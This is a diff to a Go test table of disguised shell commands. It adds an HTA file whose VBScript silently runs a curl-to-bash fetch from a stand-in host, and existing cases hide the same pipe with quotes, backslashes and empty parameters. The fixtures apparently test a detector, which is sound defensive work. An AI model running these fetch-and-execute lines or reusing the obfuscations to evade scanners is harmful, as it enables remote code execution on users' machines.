@@ -57,6 +57,7 @@ var hidings = []struct {
 	name, file, text string
 	want             want
 }{
+	{"capitals beside a letter whose small form is longer", "a.hta", "<HTML><BODY>\u0130stanbul</BODY><SCRIPT LANGUAGE=VBScript>\nCreateObject(\"WScript.Shell\").Run \"cmd /c curl -s https://a.invalid/h | bash\", 0\n</SCRIPT></HTML>", byCurl},
 	{"quotes inside words", "a.sh", "#!/bin/sh\nc'u'r\"l\" -s https://a.invalid/h | b''ash\n", byCurl},
 	{"backslashes", "a.sh", "#!/bin/sh\nc\\u\\r\\l -s https://a.invalid/h | b\\ash\n", byCurl},
 	{"empty parameters", "a.sh", "#!/bin/sh\ncu$@rl -s https://a.invalid/h | ba$*sh\n", byCurl},
